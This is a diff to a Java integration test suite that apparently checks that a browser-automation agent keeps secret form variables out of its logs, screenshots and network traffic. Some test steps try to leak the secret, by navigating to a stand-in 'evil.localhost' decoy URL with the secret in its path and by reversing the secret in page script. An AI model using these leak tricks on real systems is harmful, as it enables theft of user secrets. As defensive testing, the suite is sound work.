@@ -38,6 +38,9 @@ class RedTeamSecretsIT {
               document.title = value; console.log('written', value, {value});
             })</script>""";
 
+    /** A page that repeats nothing. */
+    private static final String FIELD = "<title>Form</title><input id=word aria-label=Word>";
+
     private static RedTeam team;
 
     private final Api api = team.api;
@@ -85,6 +88,13 @@ class RedTeamSecretsIT {
                 .collect(Collectors.joining("\n"));
     }
 
+    /** Otherwise there is nothing to hide. */
+    private void assertEntered(JsonObject ended) {
+        assertThat(api.get(session(ended) + "/actions?limit=1000").list("actions"))
+                .map(JsonObject.class::cast)
+                .anyMatch(action -> action.getString("type").equals("fill") && action.getBoolean("success"));
+    }
+
     private void assertHidden(JsonObject ended) {
         String logs = Stream.of("/actions?limit=1000", "/console?limit=1000", "/network?limit=1000", "")
                 .map(part -> api.get(session(ended) + part).text())
@@ -107,13 +117,14 @@ class RedTeamSecretsIT {
     @ValueSource(strings = {"word", "long", "rich"})
     void whatIsEnteredIsShownByItsNameOnly(String field) {
         JsonObject ended = obey(
+                FORM,
                 fill(field),
                 order("snapshot", new JsonObject()),
                 call("content", "format", "html"),
                 call("content", "format", "text"),
                 call("content", "format", "markdown"),
                 order("screenshot", new JsonObject()));
-        assertThat(team.told()).contains("{{word}}");
+        assertEntered(ended);
         assertHidden(ended);
     }
 
@@ -136,6 +147,7 @@ class RedTeamSecretsIT {
     @Test
     void partsOfItAreNotReadOut() {
         JsonObject ended = obey(
+                FIELD,
                 fill("word"),
                 call("press", "key", "Backspace"),
                 call("press", "key", "Backspace"),
@@ -143,6 +155,7 @@ class RedTeamSecretsIT {
                 call("press", "key", "Delete"),
                 order("type", new JsonObject().put("text", "x")),
                 order("snapshot", new JsonObject()));
+        assertEntered(ended);
         assertHidden(ended);
     }
 
@@ -151,6 +164,7 @@ class RedTeamSecretsIT {
         String script =
                 "data:text/html,<title>t</title><p id=p></p><script>p.textContent = [...`{{word}}`].reverse().join('')</script>";
         assertHidden(obey(
+                FORM,
                 call("navigate", "url", script),
                 call("open_page", "url", script),
                 call("navigate", "url", "http://evil.localhost:" + team.decoy.port() + "/{{word}}"),
@@ -169,6 +183,7 @@ class RedTeamSecretsIT {
                 team.run(task(team.page(form, fill("out"), order("click", new JsonObject().put("selector", "#away"))))
                         .put("variables", variables));
         assertThat(team.decoy.visits()).isEmpty();
+        assertEntered(ended);
         assertHidden(ended);
     }
 }
